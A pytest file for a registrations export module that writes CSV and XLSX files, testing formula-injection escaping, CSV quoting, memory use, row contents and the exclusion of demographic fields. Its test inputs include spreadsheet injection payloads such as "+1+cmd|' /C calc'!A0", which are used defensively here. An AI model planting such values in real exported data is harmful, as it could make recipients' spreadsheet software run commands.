"""Exports: what is in the files, and what Excel makes of it."""

import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from registrations.exports import COLUMNS, neutralised, table_of, write_csv
from registrations.models import Demographics, Registration
from somosnlp.ui.xlsx import write_xlsx
from tests.factories.registrations import RegistrationFactory, UniversityFactory

FORMULA = '=HYPERLINK("http://example.org?x="&A1;"clic")'

WHEN = datetime(2026, 3, 1, 9, 5)  # noqa: DTZ001 (as a cell has it)


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠a",
        "+",
        "-",
        "+57=1",
        "+1-2",
        "-1-2",
        "+57 300 123 45 67 89 01 23",
        "+57 300 123 4567\n=1+1",
        "-A1",
    ],
)
def test_what_begins_like_a_formula_is_neutralised(text: str) -> None:
    assert neutralised(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Lucía",
        "+57 300 123 4567",
        "+573001234567",
        "+57 (300) 123-45-67",
        "+1.555.010.0199",
        "-5",
        "-3,5",
        "+3.25",
        "5",
        "a=b",
        "ana@example.org",
        "O'Higgins",
        "<5",
    ],
)
def test_phones_numbers_and_names_stay_as_they_are(text: str) -> None:
    assert neutralised(text) == text


def test_csv_has_bom_semicolons_and_every_cell_quoted() -> None:
    lines = b"".join(write_csv([["País", 'Ñandú; "sí"', "a,=1+1", None, 3, WHEN]]))
    assert lines == ('\ufeff"País";"Ñandú; ""sí""";"a,=1+1";"";"3";"2026-03-01 09:05:00"\r\n'.encode())


def test_files_of_many_rows_take_no_more_memory() -> None:
    def peak(count: int) -> int:
        def rows() -> Iterator[list[str]]:
            for number in range(count):
                yield [f"Persona {number}", f"persona{number}@example.org"]

        tracemalloc.start()
        write_xlsx(rows(), "hoja").close()
        for _bytes in write_csv(rows()):
            pass
        highest = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return highest

    peak(10)
    assert peak(8_000) < 1.5 * peak(800)


@pytest.mark.django_db
def test_row_says_it_in_words_and_dates_in_the_zone_of_the_heading() -> None:
    at = datetime(2026, 3, 1, 4, 30, 59, 7, tzinfo=UTC)
    RegistrationFactory(
        user__name="Begoña Oñate",
        user__email="bego@example.org",
        user__discord="bego",
        countries=["PE", "ES"],
        languages=["es", "qu"],
        university=UniversityFactory(name="Universidad A"),
        registered_at=at,
    )
    heads, row = table_of(Registration.objects.all(), "America/Bogota")
    found = dict(zip(heads, row, strict=True))
    assert found["nombre"] == "Begoña Oñate"
    assert found["países"] == "Perú, España"
    assert found["idiomas"] == "español, quechua"
    assert (found["nivel de PLN"], found["estado"]) == ("Básico", "inscrita")
    assert found["universidad"] == "Universidad A"
    assert found["confirmada (hora de Bogotá)"] == datetime(2026, 2, 28, 23, 30, 59)  # noqa: DTZ001 (as a cell has it)
    assert found["cancelada (hora de Bogotá)"] is None


def test_no_demographics_leave_by_name() -> None:
    names = {field.name for field in Demographics._meta.get_fields()} | {"pronouns", "demographics"}
    assert not [column for column in COLUMNS if names & set(column.split("__"))]
